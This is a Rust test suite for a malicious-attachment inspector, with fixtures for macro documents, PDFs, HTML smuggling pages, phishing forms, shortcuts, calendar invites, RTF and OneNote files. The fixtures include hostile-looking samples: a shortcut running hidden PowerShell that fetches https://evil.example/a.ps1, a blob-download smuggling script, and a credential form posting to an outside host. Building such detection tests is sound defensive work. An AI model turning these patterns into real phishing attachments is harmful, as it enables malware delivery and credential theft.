//! Content inspectors: every fixture is built here, findings asserted exactly.

// Test helpers (outside #[test] functions) may unwrap too: a panic is
// the failure report.
#![allow(clippy::unwrap_used)]

use outwork_inspect::Finding;
use outwork_inspect::inspect_content;
use std::io::{Cursor, Write};

fn run(path: &str, data: &[u8]) -> Vec<Finding> {
    let mut out = Vec::new();
    inspect_content(path, data, &mut out);
    out
}

fn link(path: &str, url: &str, found_in: &str) -> Finding {
    Finding::Link {
        path: path.into(),
        url: url.into(),
        found_in: found_in.into(),
    }
}

fn smug(path: &str, indicator: &str) -> Finding {
    Finding::Smuggling {
        path: path.into(),
        indicator: indicator.into(),
    }
}

fn macro_(path: &str, autorun: &[&str]) -> Finding {
    Finding::Macro {
        path: path.into(),
        autorun: autorun.iter().map(|s| s.to_string()).collect(),
    }
}

fn action(path: &str, action: &str, detail: &str) -> Finding {
    Finding::PdfAction {
        path: path.into(),
        action: action.into(),
        detail: detail.into(),
    }
}

// ------------------------------------------------------------ fixture builders

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const CONTENT_TYPES: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;

const SETTINGS_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Templates/Normal.dotm"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://benign.example/" TargetMode="External"/></Relationships>"#;

const DOC_RELS: &[u8] = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\10.1.2.3\share\obj.bin" TargetMode="External"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame" Target="mhtml:x" TargetMode="External"/></Relationships>"#;

/// The docm of the brief: raw vbaProject.bin bytes with "AutoOpen", an
/// external attachedTemplate in settings.xml.rels, an UNC oleObject.
fn docm() -> Vec<u8> {
    zip_of(&[
        ("[Content_Types].xml", CONTENT_TYPES),
        ("word/document.xml", b"<w:document/>"),
        (
            "word/vbaProject.bin",
            b"\x01\x02junk\x00Sub autoopen\x00()\x00more",
        ),
        ("word/_rels/settings.xml.rels", SETTINGS_RELS),
        ("word/_rels/document.xml.rels", DOC_RELS),
    ])
}

/// MS-OVBA 2.4.1 compression (greedy LZ77), so fixtures hold VBA source
/// the way Office stores it: names split by flag bytes or copy tokens.
fn ovba_compress(src: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in src.chunks(4096) {
        let mut body = Vec::new();
        let mut pos = 0;
        while pos < chunk.len() {
            let flag_at = body.len();
            body.push(0u8);
            for bit in 0..8 {
                if pos >= chunk.len() {
                    break;
                }
                let mut bits = 4;
                while (1usize << bits) < pos {
                    bits += 1;
                }
                let max_len = (0xFFFFusize >> bits) + 3;
                let max_off = 1usize << (16 - bits);
                let (mut best_len, mut best_off) = (0, 0);
                for off in 1..=pos.min(max_off) {
                    let mut len = 0;
                    while len < max_len
                        && pos + len < chunk.len()
                        && chunk[pos + len - off] == chunk[pos + len]
                    {
                        len += 1;
                    }
                    if len > best_len {
                        best_len = len;
                        best_off = off;
                    }
                }
                if best_len >= 3 {
                    let token = ((best_off - 1) << (16 - bits)) | (best_len - 3);
                    body.extend_from_slice(&(token as u16).to_le_bytes());
                    body[flag_at] |= 1 << bit;
                    pos += best_len;
                } else {
                    body.push(chunk[pos]);
                    pos += 1;
                }
            }
        }
        let header = 0xB000u16 | ((body.len() + 2 - 3) as u16 & 0x0FFF);
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

const MODULE_SRC: &[u8] = b"Attribute VB_Name = \"Module1\"\r\nSub Workbook_Open()\r\n    Shell \"calc\"\r\nEnd Sub\r\nSub Auto_Close()\r\n    Workbook_Open\r\nEnd Sub\r\n";

fn module_stream() -> Vec<u8> {
    // A module stream: performance cache (junk) then the compressed source.
    let mut s = vec![0xCCu8; 37];
    s.extend(ovba_compress(MODULE_SRC));
    s
}

fn ole_of(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, data) in streams {
        let parent = std::path::Path::new(path).parent().unwrap();
        if parent != std::path::Path::new("/") {
            cf.create_storage_all(parent).unwrap();
        }
        let mut s = cf.create_stream(path).unwrap();
        s.write_all(data).unwrap();
    }
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

/// Legacy .doc with Macros/VBA/dir and a module stream naming Document_Open.
fn ole_doc() -> Vec<u8> {
    ole_of(&[
        ("/WordDocument", &[0u8; 600]),
        (
            "/Macros/PROJECT",
            b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000",
        ),
        (
            "/Macros/VBA/dir",
            &ovba_compress(b"\x01\x00\x02\x00\x00\x00ThisDocument"),
        ),
        (
            "/Macros/VBA/ThisDocument",
            b"\x00\x00cache\x00Private Sub Document_Open()\r\n",
        ),
    ])
}

/// Legacy .xls whose module source is only present compressed.
fn ole_xls() -> Vec<u8> {
    ole_of(&[
        ("/Workbook", &[0u8; 700]),
        (
            "/_VBA_PROJECT_CUR/VBA/_VBA_PROJECT",
            b"\xCC\x61\xFF\xFF\x00",
        ),
        ("/_VBA_PROJECT_CUR/VBA/dir", &ovba_compress(b"module dir")),
        ("/_VBA_PROJECT_CUR/VBA/Module1", &module_stream()),
    ])
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn pdf() -> Vec<u8> {
    let stream = zlib(b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>");
    let mut p = Vec::new();
    p.extend_from_slice(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n");
    p.extend_from_slice(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n");
    p.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
    p.extend_from_slice(b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>\nendobj\n");
    p.extend_from_slice(b"4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n");
    p.extend_from_slice(b"5 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/x) >> >>\nendobj\n");
    p.extend_from_slice(
        format!(
            "6 0 obj\n<< /Length {} /Filter /FlateDecode >>\nstream\n",
            stream.len()
        )
        .as_bytes(),
    );
    p.extend_from_slice(&stream);
    p.extend_from_slice(b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
    p
}

const SMUGGLE_HTML: &[u8] = br#"<html><body><script>
var b64 = "UEsDBBQAAAAIAA==";
var bin = atob(b64);
var blob = new Blob([bin], {type: "application/zip"});
window.navigator.msSaveOrOpenBlob(blob, "invoice.zip");
</script><a href="https://cdn.example/x.js">x</a></body></html>"#;

const SVG: &[u8] = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<a xlink:href="https://evil.example/l"><text>Open</text></a>
<script type="text/javascript">window.location.href = "https://evil.example/p";</script></svg>"#;

const CRED_FORM: &[u8] = br#"<!DOCTYPE html><html><head><meta http-equiv="refresh" content="300; url=https://evil.example/next"></head>
<body><form method="post" action="https://collect.example/login.php?a=1&amp;b=2">
<input type="email" name="u"><input type = "password" name="p"><button>Sign in</button></form>
<img src="data:image/png;base64,AAAA"><img srcset="https://ignored.example/">
<span data-href="https://not-an-attr.example/">retrieval(x)</span></body></html>"#;

fn lnk() -> Vec<u8> {
    let mut d = vec![
        0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
    ];
    d.extend_from_slice(&0x0000_00A0u32.to_le_bytes()); // HasArguments | IsUnicode
    d.resize(76, 0);
    d.push(0x07); // odd padding: string data not 2-aligned
    for s in [
        "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-nop -w hidden -enc SQBFAFgA; iwr https://evil.example/a.ps1",
    ] {
        let units: Vec<u16> = s.encode_utf16().collect();
        d.extend_from_slice(&(units.len() as u16).to_le_bytes());
        for u in units {
            d.extend_from_slice(&u.to_le_bytes());
        }
    }
    d.extend_from_slice(&[0u8; 4]);
    d
}

const ICS: &[u8] = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll update\r\nDESCRIPTION:Review your payslip at https://evil.exa\r\n mple/pay?id=1\\, then confirm.\\nThanks\r\nLOCATION:Teams\r\nURL;VALUE=URI:https://evil.example/event\r\nATTACH;X-NOTE=\"a:b\";FMTTYPE=text/html:https://evil.example/doc.html\r\nORGANIZER:mailto:hr@evil.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";

const RTF: &[u8] = br"{\rtf1\ansi\deff0{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 01050000020000000b0000004571756174696f6e2e33}}}";

fn onenote(with_file: bool) -> Vec<u8> {
    let mut d = vec![
        0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96,
        0xD3,
    ];
    d.resize(400, 0);
    if with_file {
        d.extend_from_slice(&[
            0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A,
            0x9E, 0xAC,
        ]);
        d.extend_from_slice(&[0u8; 20]);
        d.extend_from_slice(b"MZ\x90\x00");
    }
    d.resize(d.len() + 64, 0);
    d
}

// ------------------------------------------------------------ OOXML

#[test]
fn ooxml_macro_and_remote_template() {
    assert_eq!(
        run("inv.docm", &docm()),
        vec![
            macro_("inv.docm!word/vbaProject.bin", &["AutoOpen"]),
            Finding::RemoteTemplate {
                path: "inv.docm!word/_rels/settings.xml.rels".into(),
                url: "http://evil.example/t.dotm?a=1&b=2".into()
            },
            Finding::RemoteTemplate {
                path: "inv.docm!word/_rels/document.xml.rels".into(),
                url: r"\\10.1.2.3\share\obj.bin".into()
            },
        ]
    );
}

#[test]
fn ooxml_with_ole_vba_project() {
    // xl/vbaProject.bin is a real OLE VBA project whose source is compressed.
    let xlsm = zip_of(&[
        ("[Content_Types].xml", CONTENT_TYPES),
        ("xl/workbook.xml", b"<workbook/>"),
        (
            "xl/vbaProject.bin",
            &ole_of(&[
                ("/VBA/dir", &ovba_compress(b"dir")),
                ("/VBA/Module1", &module_stream()),
            ]),
        ),
    ]);
    assert_eq!(
        run("a.xlsm", &xlsm),
        vec![macro_(
            "a.xlsm!xl/vbaProject.bin",
            &["Workbook_Open", "Auto_Close"]
        )]
    );

    // archive.rs also hands the part itself over (an OLE file, same path):
    // the identical Macro is not added twice.
    let mut out = run("a.xlsm", &xlsm);
    let part = ole_of(&[
        ("/VBA/dir", &ovba_compress(b"dir")),
        ("/VBA/Module1", &module_stream()),
    ]);
    inspect_content("a.xlsm!xl/vbaProject.bin", &part, &mut out);
    assert_eq!(
        out,
        vec![macro_(
            "a.xlsm!xl/vbaProject.bin",
            &["Workbook_Open", "Auto_Close"]
        )]
    );
}

#[test]
fn plain_zip_and_clean_ooxml_yield_nothing() {
    assert_eq!(
        run("x.zip", &zip_of(&[("word/vbaProject.bin", b"AutoOpen")])),
        vec![]
    );
    assert_eq!(
        run(
            "c.docx",
            &zip_of(&[
                ("[Content_Types].xml", CONTENT_TYPES),
                ("word/document.xml", b"<w:document/>")
            ])
        ),
        vec![]
    );
}

// ------------------------------------------------------------ OLE / VBA

#[test]
fn ovba_fixture_hides_names_from_a_raw_scan() {
    let m = module_stream();
    assert!(memchr::memmem::find(&m, b"Workbook_Open").is_none());
    assert!(memchr::memmem::find(&m, b"Auto_Close").is_none());
}

#[test]
fn ole_doc_macros() {
    assert_eq!(
        run("old.doc", &ole_doc()),
        vec![macro_("old.doc", &["Document_Open"])]
    );
}

#[test]
fn ole_xls_compressed_module() {
    assert_eq!(
        run("old.xls", &ole_xls()),
        vec![macro_("old.xls", &["Workbook_Open", "Auto_Close"])]
    );
}

#[test]
fn ole_without_vba_and_broken_ole() {
    assert_eq!(
        run("clean.doc", &ole_of(&[("/WordDocument", &[0u8; 600])])),
        vec![]
    );
    let mut broken = ole_doc();
    broken.truncate(600);
    let out = run("broken.doc", &broken);
    assert_eq!(out.len(), 1);
    assert!(
        matches!(&out[0], Finding::Malformed { path, what } if path == "broken.doc" && what.starts_with("OLE compound file unreadable")),
        "{out:?}"
    );
}

// ------------------------------------------------------------ PDF

#[test]
fn pdf_actions_and_uri() {
    assert_eq!(
        run("inv.pdf", &pdf()),
        vec![
            action(
                "inv.pdf",
                "OpenAction",
                "/OpenAction 4 0 R >> endobj 2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> en"
            ),
            action(
                "inv.pdf",
                "JavaScript",
                "/JavaScript /JS (app.alert\\(1\\)) >> endobj 5 0 obj << /Type /Annot /Subtype /Lin"
            ),
            link("inv.pdf", "https://evil.example/x", "PDF /URI"),
            action("inv.pdf", "Launch", "/Launch /F (cmd.exe) /P (/c calc) >>"),
        ]
    );
}

#[test]
fn pdf_obfuscated_names_and_strings() {
    let p = b"%PDF-1.4\n1 0 obj << /S /J#61vaScript >> endobj\n2 0 obj << /URI <68747470733a2f2f612e6578616d706c652f> >> endobj\n3 0 obj << /URI (https://b.example/\\(p\\)\\\\q\\056html) /Names << /EmbeddedFiles 9 0 R >> /AcroForm 8 0 R >> endobj\n";
    assert_eq!(
        run("o.pdf", p),
        vec![
            action(
                "o.pdf",
                "JavaScript",
                "/J#61vaScript >> endobj 2 0 obj << /URI <68747470733a2f2f612e6578616d706c652f> >"
            ),
            link("o.pdf", "https://a.example/", "PDF /URI"),
            link("o.pdf", "https://b.example/(p)\\q.html", "PDF /URI"),
            action(
                "o.pdf",
                "EmbeddedFile",
                "/EmbeddedFiles 9 0 R >> /AcroForm 8 0 R >> endobj"
            ),
            action("o.pdf", "AcroForm", "/AcroForm 8 0 R >> endobj"),
        ]
    );
}

#[test]
fn pdf_stream_budget_and_binary_noise() {
    // Many junk "FlateDecode" streams, then one with JavaScript: the 64-stream
    // cap stops before it (documented limitation), nothing panics.
    let mut p = b"%PDF-1.5\n".to_vec();
    for i in 0..70 {
        p.extend_from_slice(format!("{i} 0 obj << /Filter /FlateDecode >>\nstream\n").as_bytes());
        p.extend_from_slice(&zlib(if i == 69 { b"/JS (x)" } else { b"BT ET" }));
        p.extend_from_slice(b"\nendstream endobj\n");
    }
    assert_eq!(run("many.pdf", &p), vec![]);
    // A stream body with /JS-like bytes is not scanned raw.
    let raw = b"%PDF-1.5\n1 0 obj << /Length 8 >>\nstream\n\x00/JS \x01\x02\nendstream\nendobj\n";
    assert_eq!(run("raw.pdf", raw), vec![]);
}

// ------------------------------------------------------------ HTML / SVG

#[test]
fn html_smuggling_page() {
    assert_eq!(
        run("invoice.html", SMUGGLE_HTML),
        vec![
            smug("invoice.html", "atob("),
            smug("invoice.html", "new Blob("),
            smug("invoice.html", "msSaveOrOpenBlob"),
            smug("invoice.html", "<script"),
            link(
                "invoice.html",
                "https://cdn.example/x.js",
                "HTML attachment"
            ),
        ]
    );
}

#[test]
fn svg_with_script() {
    assert_eq!(
        run("img.svg", SVG),
        vec![
            smug("img.svg", "window.location"),
            smug("img.svg", "location.href ="),
            smug("img.svg", "<script"),
            link("img.svg", "https://evil.example/l", "HTML attachment"),
        ]
    );
}

#[test]
fn credential_form_and_meta_refresh() {
    assert_eq!(
        run("login.htm", CRED_FORM),
        vec![
            smug("login.htm", "<meta http-equiv=\"refresh\">"),
            smug(
                "login.htm",
                "credential form posting to https://collect.example/login.php?a=1&b=2"
            ),
            link(
                "login.htm",
                "https://collect.example/login.php?a=1&b=2",
                "HTML attachment"
            ),
            link("login.htm", "https://evil.example/next", "HTML attachment"),
        ]
    );
}

#[test]
fn html_download_blob_and_name_hint_and_caps() {
    let page = b"<a id=d download=\"x.iso\">x</a> <p>document.write(unescape('%3C'))</p> d.href = URL.createObjectURL(b); location.replace('blob:x')";
    // No HTML magic in the bytes: the .shtml name makes it HTML.
    assert_eq!(
        run("p.shtml", page),
        vec![
            smug("p.shtml", "createObjectURL"),
            smug("p.shtml", "location.replace("),
            smug("p.shtml", "document.write(unescape("),
            smug("p.shtml", "download= with data:/blob: URL"),
        ]
    );
    assert_eq!(run("p.txt", page), vec![]);

    let mut many = b"<html>".to_vec();
    for i in 0..200 {
        many.extend_from_slice(format!("<a href=\"https://l{i}.example/\">x</a>").as_bytes());
    }
    let out = run("many.html", &many);
    assert_eq!(out.len(), 50);
    assert_eq!(
        out[0],
        link("many.html", "https://l0.example/", "HTML attachment")
    );
}

#[test]
fn utf16_html_is_decoded() {
    let mut d = vec![0xFF, 0xFE];
    for u in "<html><script>eval(atob('x'))</script></html>".encode_utf16() {
        d.extend_from_slice(&u.to_le_bytes());
    }
    assert_eq!(
        run("u.html", &d),
        vec![
            smug("u.html", "atob("),
            smug("u.html", "eval("),
            smug("u.html", "<script")
        ]
    );
}

// ------------------------------------------------------------ shortcuts, invites, RTF, OneNote

#[test]
fn internet_shortcut() {
    let url = b"[InternetShortcut]\r\nURL=https://evil.example/payload.hta\r\nIconIndex=0\r\nIconFile=\\\\10.0.0.1\\share\\icon.ico\r\n";
    assert_eq!(
        run("doc.url", url),
        vec![
            link(
                "doc.url",
                "https://evil.example/payload.hta",
                "Internet shortcut"
            ),
            link(
                "doc.url",
                "\\\\10.0.0.1\\share\\icon.ico",
                "Internet shortcut icon"
            )
        ]
    );
}

#[test]
fn windows_shortcut() {
    assert_eq!(
        run("doc.pdf.lnk", &lnk()),
        vec![
            smug("doc.pdf.lnk", "shortcut runs powershell"),
            link(
                "doc.pdf.lnk",
                "https://evil.example/a.ps1",
                "Windows shortcut"
            )
        ]
    );
}

#[test]
fn calendar_invite() {
    assert_eq!(
        run("invite.ics", ICS),
        vec![
            link(
                "invite.ics",
                "https://evil.example/pay?id=1",
                "calendar invite"
            ),
            link(
                "invite.ics",
                "https://evil.example/event",
                "calendar invite"
            ),
            link(
                "invite.ics",
                "https://evil.example/doc.html",
                "calendar invite"
            ),
        ]
    );
}

#[test]
fn rtf_objects() {
    assert_eq!(
        run("a.rtf", RTF),
        vec![
            smug("a.rtf", "RTF embedded object (\\object)"),
            smug("a.rtf", "RTF embedded object (\\objdata)"),
            smug("a.rtf", "RTF embedded object (\\objupdate)")
        ]
    );
    assert_eq!(run("b.rtf", br"{\rtf1\ansi{\objectname x}Hello}"), vec![]);
}

#[test]
fn onenote_embedded_file() {
    assert_eq!(
        run("n.one", &onenote(true)),
        vec![smug("n.one", "OneNote embedded file")]
    );
    assert_eq!(run("n.one", &onenote(false)), vec![]);
}

#[test]
fn duplicate_findings_are_not_repeated() {
    let mut out = Vec::new();
    inspect_content(
        "doc.url",
        b"[InternetShortcut]\nURL=https://e.example/\n",
        &mut out,
    );
    inspect_content(
        "doc.url",
        b"[InternetShortcut]\nURL=https://e.example/\n",
        &mut out,
    );
    assert_eq!(
        out,
        vec![link("doc.url", "https://e.example/", "Internet shortcut")]
    );
}

// ------------------------------------------------------------ hostile input

fn assert_no_panic(path: &str, data: &[u8]) {
    let out = run(path, data);
    assert!(
        !out.iter()
            .any(|f| matches!(f, Finding::Malformed { what, .. } if what.contains("hostile"))),
        "inspector panicked on {path} ({} bytes)",
        data.len()
    );
}

#[test]
fn truncated_and_mutated_fixtures_never_panic() {
    let fixtures: Vec<(&str, Vec<u8>)> = vec![
        ("a.docm", docm()),
        ("a.doc", ole_doc()),
        ("a.xls", ole_xls()),
        ("a.pdf", pdf()),
        ("a.html", SMUGGLE_HTML.to_vec()),
        ("a.svg", SVG.to_vec()),
        ("a.htm", CRED_FORM.to_vec()),
        ("a.lnk", lnk()),
        ("a.ics", ICS.to_vec()),
        ("a.rtf", RTF.to_vec()),
        ("a.one", onenote(true)),
        (
            "a.url",
            b"[InternetShortcut]\r\nURL=https://evil.example/\r\n".to_vec(),
        ),
    ];
    let mut rng = 0x9E37_79B9_7F4A_7C15u64;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    for (name, data) in &fixtures {
        let step = (data.len() / 150).max(1);
        for len in (0..data.len()).step_by(step) {
            assert_no_panic(name, &data[..len]);
        }
        for _ in 0..150 {
            let mut m = data.clone();
            for _ in 0..1 + next() % 8 {
                let i = (next() as usize) % m.len();
                m[i] = next() as u8;
            }
            assert_no_panic(name, &m);
        }
    }
    // Pure garbage, with and without each magic.
    let magics: [&[u8]; 8] = [
        b"",
        b"PK\x03\x04",
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1",
        b"%PDF-1.7\n",
        b"{\\rtf1",
        b"L\x00\x00\x00\x01\x14\x02\x00",
        b"\xFF\xFE",
        &onenote(false)[..16],
    ];
    for magic in magics {
        for n in [0usize, 1, 7, 100, 5000] {
            let mut g = magic.to_vec();
            g.extend((0..n).map(|_| next() as u8));
            assert_no_panic("g.bin", &g);
            assert_no_panic("g.html", &g);
            assert_no_panic("g.ics", &g);
        }
    }
    // Hostile PDF / VBA corner cases.
    assert_no_panic("s.pdf", b"%PDF /URI (unterminated \\");
    assert_no_panic("s.pdf", b"%PDF /URI <6");
    assert_no_panic("s.pdf", b"%PDF << >> stream\r");
    assert_no_panic("s.pdf", b"%PDF << >>stream\n\x78\x9c");
    assert_no_panic(
        "v.docm",
        &zip_of(&[
            ("[Content_Types].xml", CONTENT_TYPES),
            (
                "word/vbaProject.bin",
                b"\x01\xff\xbf\x00Attribut\x01\xff\xff\xff\x01\x00Attribut\xff\xff",
            ),
        ]),
    );
}

#[test]
fn pathological_inputs_stay_linear() {
    // 2 MiB of one repeated unit per reader: quadratic scans would take minutes.
    let start = std::time::Instant::now();
    for unit in [
        &b"<form "[..],
        b"href=\"",
        b"http-equiv ",
        b"/URI (",
        b">> stream\n",
        b"\x00Attribut\x01",
        b"http://",
        b"\\objdata",
        b"(",
        b"<",
    ] {
        let body = unit.repeat((2 << 20) / unit.len());
        for (name, prefix) in [
            ("p.html", &b"<html>"[..]),
            ("p.pdf", b"%PDF-1.7\n"),
            ("p.rtf", b"{\\rtf1"),
            ("p.ics", b"BEGIN:VCALENDAR\nDESCRIPTION:"),
            ("p.url", b"[InternetShortcut]\nURL="),
            ("p.lnk", b"L\x00\x00\x00\x01\x14\x02\x00"),
        ] {
            assert_no_panic(name, &[prefix, &body].concat());
        }
    }
    let vba = zip_of(&[
        ("[Content_Types].xml", CONTENT_TYPES),
        (
            "word/vbaProject.bin",
            &b"\x01\xff\xbf\x00Attribut".repeat(100_000),
        ),
    ]);
    assert_no_panic("v.docm", &vba);
    assert!(start.elapsed().as_secs() < 30, "took {:?}", start.elapsed());
}
